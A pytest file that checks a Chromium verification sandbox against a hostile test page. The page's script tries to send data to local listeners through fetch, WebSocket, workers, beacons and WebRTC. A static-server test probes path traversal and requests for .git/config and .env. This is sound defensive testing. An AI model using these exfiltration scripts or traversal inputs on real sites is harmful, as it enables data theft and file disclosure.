"""A hostile page in real Chromium tries every way out of the verification sandbox.

Listeners on other loopback ports (an HTTP one on 127.0.0.1, one on 127.0.0.2, a real WebSocket
server, a UDP socket for WebRTC) record whatever reaches them. The same page loaded unsealed is
the control: it proves each attack really sends something, so the sealed run's silence means the
seal stopped it, and every request the control delivered appears in the sealed report.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import os
import socket
import socketserver
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest

from action import browser as browser_module
from action.browser import Browser, find_chromium, launch_options
from action.site_server import published, serve_site
from action.verify import VerifyReport

CHROMIUM = find_chromium()
WS_GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
DONE = "window.done === true"


@dataclass
class Heard:
    """What one listener received: request lines (or WebSocket messages) and UDP packets."""

    lines: list[str] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def add(self, line: str) -> None:
        with self.lock:
            self.lines.append(line)


class _Listener(socketserver.BaseRequestHandler):
    """Answers HTTP with permissive CORS, and upgrades WebSockets to read one message."""

    heard: Heard

    def handle(self) -> None:
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = self.request.recv(65536)
            if not chunk:
                break
            data += chunk
        head = data.decode("latin-1")
        self.heard.add(head.split("\r\n", 1)[0] or "(a connection that sent nothing)")
        headers = dict(
            (k.strip().lower(), v.strip())
            for k, _, v in (line.partition(":") for line in head.split("\r\n")[1:])
        )
        if headers.get("upgrade", "").lower() == "websocket":
            accept = hashlib.sha1((headers["sec-websocket-key"] + WS_GUID).encode()).digest()
            self.request.sendall(
                b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade"
                b"\r\nSec-WebSocket-Accept: " + base64.b64encode(accept) + b"\r\n\r\n"
            )
            frame = self.request.recv(65536)
            if len(frame) >= 6:  # a short masked text frame from the browser
                size, mask = frame[1] & 0x7F, frame[2:6]
                payload = bytes(b ^ mask[i % 4] for i, b in enumerate(frame[6 : 6 + size]))
                self.heard.add("ws message " + payload.decode("utf-8", "replace"))
            return
        body = b"ok"
        self.request.sendall(
            b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: text/plain\r\n"
            b"Content-Length: 2\r\nConnection: close\r\n\r\n" + body
        )


@contextlib.contextmanager
def listener(host: str) -> Iterator[tuple[int, Heard]]:
    """A TCP listener on `host` with an ephemeral port, recording what reaches it."""
    heard = Heard()
    handler = type("Handler", (_Listener,), {"heard": heard})
    server = socketserver.ThreadingTCPServer((host, 0), handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    try:
        yield server.server_address[1], heard
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@contextlib.contextmanager
def udp_listener() -> Iterator[tuple[int, Heard]]:
    """A UDP socket on 127.0.0.1 (a STUN server's place), recording every packet."""
    heard = Heard()
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    sock.settimeout(0.1)
    stop = threading.Event()

    def loop() -> None:
        while not stop.is_set():
            with contextlib.suppress(TimeoutError):
                data, _ = sock.recvfrom(65536)
                heard.add(f"udp {len(data)} bytes")

    thread = threading.Thread(target=loop, daemon=True)
    thread.start()
    try:
        yield sock.getsockname()[1], heard
    finally:
        stop.set()
        thread.join()
        sock.close()


PAGE = """<!doctype html><title>hostile</title>
<img src="http://127.0.0.1:{http}/img">
<iframe src="http://127.0.0.2:{other}/frame"></iframe>
<script>
const A = "http://127.0.0.1:{http}", B = "http://127.0.0.2:{other}";
const tries = [];
tries.push(fetch(A + "/fetch?data=leak").catch(() => {{}}));
tries.push(fetch(B + "/fetch2").catch(() => {{}}));
const L = "http://localhost:" + location.port;
tries.push(fetch(L + "/same-port-other-origin").catch(() => {{}}));
tries.push(new Promise((done) => {{
  const x = new XMLHttpRequest(); x.open("GET", B + "/xhr");
  x.onloadend = done; x.send();
}}));
tries.push(new Promise((done) => {{
  const ws = new WebSocket("ws://127.0.0.1:{ws}/socket");
  ws.onopen = () => {{ ws.send("page-data"); setTimeout(done, 200); }};
  ws.onerror = done; ws.onclose = done;
}}));
tries.push(new Promise((done) => {{
  const w = new Worker("worker.js"); w.onmessage = done; w.onerror = done;
}}));
tries.push(new Promise((done) => {{
  try {{
    const s = new SharedWorker("shared.js"); s.port.onmessage = done; s.onerror = done;
  }} catch (e) {{ done(); }}
}}));
const sw = navigator.serviceWorker;
tries.push(sw ? sw.register("sw.js").catch(() => {{}}) : 0);
tries.push(new Promise((done) => {{
  const es = new EventSource(A + "/events"); es.onerror = () => {{ es.close(); done(); }};
}}));
navigator.sendBeacon(A + "/beacon", "page-data");
tries.push(new Promise((done) => {{
  const pc = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{udp}"}}]}});
  pc.createDataChannel("x");
  pc.onicegatheringstatechange = () => pc.iceGatheringState === "complete" && done();
  pc.createOffer().then((o) => pc.setLocalDescription(o));
  setTimeout(done, 1500);
}}));
Promise.all(tries).then(() => setTimeout(() => {{ window.done = true; }}, 300));
</script>"""

WORKER = """fetch("http://127.0.0.1:{http}/worker").catch(() => {{}}).then(() => {{
  const ws = new WebSocket("ws://127.0.0.1:{ws}/worker-socket");
  ws.onopen = () => {{ ws.send("worker-data"); postMessage(1); }};
  ws.onerror = () => postMessage(0);
}});"""
SHARED = """onconnect = (e) => fetch("http://127.0.0.2:{other}/shared").catch(() => {{}})
  .then(() => e.ports[0].postMessage(1));"""
SW = """self.addEventListener("install", () => fetch("http://127.0.0.1:{http}/sw"));"""


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    if CHROMIUM is None:
        pytest.skip("no chromium/google-chrome on PATH (apt-get install chromium)")
    with Browser(CHROMIUM) as b:
        yield b


@pytest.fixture
def listeners() -> Iterator[dict[str, tuple[int, Heard]]]:
    with (
        listener("127.0.0.1") as http,
        listener("127.0.0.2") as other,
        listener("127.0.0.1") as ws,
        udp_listener() as udp,
    ):
        yield {"http": http, "other": other, "ws": ws, "udp": udp}


def hostile_site(root: Path, ports: dict[str, int]) -> Path:
    root.mkdir()
    for name, text in [
        ("index.html", PAGE),
        ("worker.js", WORKER),
        ("shared.js", SHARED),
        ("sw.js", SW),
    ]:
        (root / name).write_text(text.format(**ports), "utf-8")
    return root


@pytest.mark.browser
def test_hostile_page_reaches_nothing_but_its_own_site(
    chromium: Browser, listeners: dict[str, tuple[int, Heard]], tmp_path: Path
) -> None:
    ports = {name: port for name, (port, _) in listeners.items()}
    site = hostile_site(tmp_path / "site", ports)
    checks = [DONE, "fetch('index.html').then((r) => r.ok)"]

    # Sealed first (so nothing from the control can still be in flight): nothing arrives.
    result = chromium.run(site, checks, settle_ms=6000, per_check_timeout_ms=4000)
    assert [r.status for r in result.checks] == ["pass", "pass"], result.checks
    assert {name: heard.lines for name, (_, heard) in listeners.items()} == {
        "http": [],
        "other": [],
        "ws": [],
        "udp": [],
    }
    # Control: unsealed, the same page really reaches every listener.
    with serve_site(site) as open_site:
        control = chromium.load(open_site.url + "index.html", checks, settle_ms=6000)
    assert [r.status for r in control.checks] == ["pass", "pass"]
    delivered = {name: list(heard.lines) for name, (_, heard) in listeners.items()}
    requests = [line for line in delivered["http"] + delivered["other"] if line.startswith("GET")]
    http_paths = [line.split()[1] for line in requests]
    assert {"/fetch?data=leak", "/fetch2", "/xhr", "/img", "/frame", "/worker", "/shared"} <= set(
        http_paths
    ), delivered
    assert {"ws message page-data", "ws message worker-data"} <= set(delivered["ws"]), delivered
    # WebRTC's UDP is stopped by a launch flag, so its control is test_webrtc_udp_needs_the_flag.

    blocked = "\n".join(result.blocked_requests)
    for line in (r for r in delivered["http"] if r.startswith("GET")):
        assert f"127.0.0.1:{ports['http']}{line.split()[1]}" in blocked, (line, blocked)
    for line in (r for r in delivered["other"] if r.startswith("GET")):
        assert f"127.0.0.2:{ports['other']}{line.split()[1]}" in blocked, (line, blocked)
    assert f"CONNECT 127.0.0.1:{ports['ws']}" in blocked
    assert "/same-port-other-origin" in blocked  # localhost on the site's port: another origin
    assert VerifyReport(browser=result).to_dict()["blocked_requests"] == result.blocked_requests


@pytest.mark.browser
def test_navigation_away_is_blocked(
    chromium: Browser, listeners: dict[str, tuple[int, Heard]], tmp_path: Path
) -> None:
    port, heard = listeners["http"]
    site = tmp_path / "nav"
    site.mkdir()
    (site / "index.html").write_text(
        f"<title>nav</title><script>location.href = 'http://127.0.0.1:{port}/away';</script>"
    )
    result = chromium.run(site, ["document.title"], settle_ms=1000, per_check_timeout_ms=1000)
    assert heard.lines == []
    assert f"http://127.0.0.1:{port}/away" in result.blocked_requests


SITE_FILES = {
    "index.html": "<title>site</title>",
    "app/main.js": "console.log(1)",
    ".git/config": "[remote]\n\turl = https://x-access-token:secret@github.com/a/b",
    ".github/workflows/x.yml": "on: push",
    ".env": "LLM_API_KEY=sk-secret",
    "app/.hidden": "no",
}

GETS = [
    ("/index.html", 200),
    ("/app/main.js", 200),
    ("/", 200),
    ("/.git/config", 404),
    ("/.git/", 404),
    ("/%2egit/config", 404),
    ("/.github/workflows/x.yml", 404),
    ("/.env", 404),
    ("/app/.hidden", 404),
    ("/app/", 404),  # no index.html: Pages lists no folder
    ("/../outside.txt", 404),
    ("/app/%2e%2e/%2e%2e/outside.txt", 404),
    ("/app/..%2f..%2foutside.txt", 404),
    ("/link-out.txt", 404),
    ("/link-in.js", 200),
]


def test_static_server_serves_only_what_pages_publishes(tmp_path: Path) -> None:
    root = tmp_path / "site"
    for name, text in SITE_FILES.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    (tmp_path / "outside.txt").write_text("outside")
    (root / "link-out.txt").symlink_to(tmp_path / "outside.txt")
    (root / "link-in.js").symlink_to(root / "app" / "main.js")
    with serve_site(root) as site, httpx.Client() as http:
        got = []
        for path, _ in GETS:
            # Raw paths: httpx would normalise "..", which is what an attacker would not do.
            with socket.create_connection(("127.0.0.1", site.port)) as sock:
                sock.sendall(f"GET {path} HTTP/1.0\r\n\r\n".encode())
                status = sock.makefile("rb").readline().split()[1]
            got.append((path, int(status)))
        assert got == GETS
        assert http.get(site.url + "app/main.js").text == "console.log(1)"
    assert published(root, "/.git/config") is None
    assert published(root, "/index.html") == (root / "index.html").resolve()


@pytest.mark.parametrize(
    ("euid", "sandboxed"),
    [(0, False), (1001, True), (65534, True)],
    ids=["root-drops-it", "runner-user-keeps-it", "nobody-keeps-it"],
)
def test_sandbox_is_dropped_only_for_root(euid: int, sandboxed: bool) -> None:
    options = launch_options(euid)
    assert options["chromium_sandbox"] is sandboxed
    assert ("--no-sandbox" in options["args"]) is not sandboxed


STUN_PAGE = """<title>rtc</title><script>
const pc = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:PORT"}]});
pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));
setTimeout(() => { window.done = true; }, 1500);</script>"""


@pytest.mark.browser
@pytest.mark.parametrize("with_flag", [False, True], ids=["control-without-flag", "sealed"])
def test_webrtc_udp_needs_the_flag(
    with_flag: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if CHROMIUM is None:
        pytest.skip("no chromium/google-chrome on PATH (apt-get install chromium)")
    flag = "--webrtc-ip-handling-policy=disable_non_proxied_udp"
    assert flag in browser_module.BASE_ARGS
    if not with_flag:
        monkeypatch.setattr(
            browser_module, "BASE_ARGS", [a for a in browser_module.BASE_ARGS if a != flag]
        )
    with udp_listener() as (port, heard):
        (tmp_path / "index.html").write_text(STUN_PAGE.replace("PORT", str(port)))
        # Playwright's sync API allows one driver per thread; the module's browser holds this one.
        worker = threading.Thread(
            target=lambda: browser_module.run_browser_checks(
                tmp_path, [DONE], chromium=CHROMIUM, settle_ms=3000
            )
        )
        worker.start()
        worker.join()
        sent = list(heard.lines)
    assert bool(sent) is not with_flag, sent


@pytest.mark.browser
def test_a_host_that_refuses_the_sandbox_still_checks_and_says_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Chromium cannot start sandboxed here (root); posing as a runner user, the launch falls
    back to no sandbox, the page is still checked, and the result names the reason."""
    if CHROMIUM is None:
        pytest.skip("no chromium/google-chrome on PATH (apt-get install chromium)")
    if os.geteuid() != 0:
        pytest.skip("only root is refused the sandbox for certain")
    monkeypatch.setattr(os, "geteuid", lambda: 1001)
    (tmp_path / "index.html").write_text("<title>t</title><script>window.ok = 1</script>")
    seen: dict[str, Any] = {}

    def check() -> None:  # a thread of its own: another test's Playwright may hold this one's
        with Browser(CHROMIUM) as browser:
            seen["result"] = browser.run(tmp_path, ["window.ok === 1"], settle_ms=500)
            seen["note"] = browser.sandbox_note

    worker = threading.Thread(target=check)
    worker.start()
    worker.join(120)
    result = seen["result"]
    assert "sandbox could not start" in seen["note"]
    assert result.sandbox_note == seen["note"]
    assert [c.status for c in result.checks] == ["pass"]
